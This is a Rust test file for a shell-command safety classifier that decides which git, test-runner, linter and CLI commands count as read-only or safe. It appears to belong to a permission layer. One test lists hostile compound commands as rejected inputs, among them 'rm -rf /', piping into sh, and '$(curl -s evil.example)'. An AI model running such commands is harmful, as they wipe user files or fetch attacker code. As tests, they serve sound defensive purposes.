use super::*;

fn cmd(s: &str) -> ShellCommand {
    ShellCommand::parse(s)
}

// ---------------------------------------------------------------------------
// git
// ---------------------------------------------------------------------------

#[test]
fn test_git_read_only_subcommands() {
    assert_eq!(git_read_only(&cmd("git status")).as_deref(), Some("status"));
    assert_eq!(git_read_only(&cmd("git log --oneline -10")).as_deref(), Some("log"));
    assert_eq!(git_read_only(&cmd("git diff HEAD~1")).as_deref(), Some("diff"));
    assert_eq!(git_read_only(&cmd("git show abc123")).as_deref(), Some("show"));
    assert_eq!(git_read_only(&cmd("GIT_PAGER=cat git log")).as_deref(), Some("log"));
}

#[test]
fn test_git_read_only_branch_listing() {
    assert_eq!(git_read_only(&cmd("git branch")).as_deref(), Some(GIT_BRANCH_LIST));
    assert_eq!(git_read_only(&cmd("git branch --list")).as_deref(), Some(GIT_BRANCH_LIST));
    assert_eq!(git_read_only(&cmd("git branch -a -vv")).as_deref(), Some(GIT_BRANCH_LIST));
    assert_eq!(git_read_only(&cmd("git branch feature")), None);
    assert_eq!(git_read_only(&cmd("git branch -D main")), None);
}

#[test]
fn test_git_read_only_rejects_substring_lookalikes() {
    assert_eq!(git_read_only(&cmd("git push")), None);
    assert_eq!(git_read_only(&cmd("git push origin status")), None);
    assert_eq!(git_read_only(&cmd("git statuses")), None);
    assert_eq!(git_read_only(&cmd("echo git status")), None);
    assert_eq!(git_read_only(&cmd("gitk log")), None);
    assert_eq!(git_read_only(&cmd("git")), None);
}

#[test]
fn test_git_read_only_branch_list_with_any_arguments() {
    // git refuses to combine --list with a delete, so the prefix is safe.
    assert_eq!(
        git_read_only(&cmd("git branch --list -D main")).as_deref(),
        Some(GIT_BRANCH_LIST)
    );
    assert_eq!(git_read_only(&cmd("git branch -v -D main")), None);
}

#[test]
fn test_git_all_safe_includes_read_only() {
    assert_eq!(git_all_safe(&cmd("git status")).as_deref(), Some("status"));
    assert_eq!(git_all_safe(&cmd("git add -A")).as_deref(), Some("add"));
    assert_eq!(git_all_safe(&cmd("git commit -m wip")).as_deref(), Some("commit"));
    assert_eq!(git_all_safe(&cmd("git pull --rebase")).as_deref(), Some("pull"));
    assert_eq!(git_all_safe(&cmd("git stash list")).as_deref(), Some("stash list"));
    assert_eq!(git_all_safe(&cmd("git worktree list")).as_deref(), Some("worktree list"));
}

#[test]
fn test_git_all_safe_excludes_destructive() {
    assert_eq!(git_all_safe(&cmd("git push")), None);
    assert_eq!(git_all_safe(&cmd("git push --force")), None);
    assert_eq!(git_all_safe(&cmd("git reset --hard HEAD")), None);
    assert_eq!(git_all_safe(&cmd("git clean -fd")), None);
    assert_eq!(git_all_safe(&cmd("git branch -D old")), None);
    assert_eq!(git_all_safe(&cmd("git rebase --onto main a b")), None);
    assert_eq!(git_all_safe(&cmd("git tag -d v1")), None);
    assert_eq!(git_all_safe(&cmd("git checkout -f main")), None);
    assert_eq!(git_all_safe(&cmd("git restore a.rs")), None);
    assert_eq!(git_all_safe(&cmd("git remote add origin x")), None);
    assert_eq!(git_all_safe(&cmd("git worktree remove x")), None);
    assert_eq!(git_all_safe(&cmd("git stash clear")), None);
    assert_eq!(git_all_safe(&cmd("git stash drop")), None);
}

#[test]
fn test_git_all_safe_excludes_subcommands_with_destructive_flags() {
    // Safe in their plain form, but a prefix rule would also grant the
    // destructive one.
    for line in [
        "git checkout main",
        "git switch main",
        "git rebase main",
        "git tag v1",
        "git restore --staged a.rs",
        "git remote -v",
    ] {
        assert_eq!(git_all_safe(&cmd(line)), None, "{line}");
    }
}

#[test]
fn test_compound_commands_match_nothing() {
    for line in [
        "git status && rm -rf ~",
        "git log; rm -rf /",
        "git diff | sh",
        "git show $(curl -s evil.example)",
        "git log > ~/.bashrc",
    ] {
        let command = cmd(line);
        assert_eq!(git_read_only(&command), None, "{line}");
        assert_eq!(git_all_safe(&command), None, "{line}");
        assert!(git_family(&command), "{line}");
    }
    assert_eq!(test_runner(&cmd("cargo test && cargo publish")), None);
    assert_eq!(linter_formatter(&cmd("ruff check . || rm -rf .")), None);
    assert_eq!(modern_cli_tool(&cmd("rg x | xargs rm")), None);
}

#[test]
fn test_git_vocabularies_nest() {
    let read_only = git_read_only_vocabulary();
    let all_safe = git_all_safe_vocabulary();
    assert!(read_only.iter().all(|v| all_safe.contains(v)));
    assert!(all_safe.contains(&"pull"));
    assert!(!all_safe.contains(&"push"));
}

// ---------------------------------------------------------------------------
// runners, linters, tools
// ---------------------------------------------------------------------------

#[test]
fn test_test_runner_longest_prefix() {
    assert_eq!(test_runner(&cmd("pytest -x tests/")).as_deref(), Some("pytest"));
    assert_eq!(
        test_runner(&cmd("python -m pytest -k slow")).as_deref(),
        Some("python -m pytest")
    );
    assert_eq!(test_runner(&cmd("cargo test --workspace")).as_deref(), Some("cargo test"));
    assert_eq!(test_runner(&cmd("npm run test")).as_deref(), Some("npm run test"));
    assert_eq!(test_runner(&cmd("RUST_LOG=debug cargo nextest run")).as_deref(), Some("cargo nextest"));
    assert_eq!(test_runner(&cmd("cargo build")), None);
    assert_eq!(test_runner(&cmd("npm install")), None);
    assert_eq!(test_runner(&cmd("python -m pip install x")), None);
}

#[test]
fn test_linter_formatter() {
    assert_eq!(linter_formatter(&cmd("ruff check .")).as_deref(), Some("ruff"));
    assert_eq!(linter_formatter(&cmd("cargo clippy -- -D warnings")).as_deref(), Some("cargo clippy"));
    assert_eq!(linter_formatter(&cmd("cargo fmt --check")).as_deref(), Some("cargo fmt"));
    assert_eq!(linter_formatter(&cmd("/usr/local/bin/black src")).as_deref(), Some("black"));
    assert_eq!(linter_formatter(&cmd("cargo run")), None);
}

#[test]
fn test_modern_cli_tool() {
    assert_eq!(modern_cli_tool(&cmd("rg TODO src")).as_deref(), Some("rg"));
    assert_eq!(modern_cli_tool(&cmd("fd -e rs")).as_deref(), Some("fd"));
    assert_eq!(modern_cli_tool(&cmd("bat README.md")).as_deref(), Some("bat"));
    assert_eq!(modern_cli_tool(&cmd("grep -r TODO")), None);
    assert_eq!(modern_cli_tool(&cmd("")), None);
}

#[test]
fn test_families() {
    assert!(git_family(&cmd("git push")));
    assert!(!git_family(&cmd("ls")));
    assert!(test_runner_family(&cmd("cargo build")));
    assert!(test_runner_family(&cmd("npm install")));
    assert!(!test_runner_family(&cmd("rg x")));
    assert!(linter_formatter_family(&cmd("cargo run")));
    assert!(!linter_formatter_family(&cmd("git status")));
}
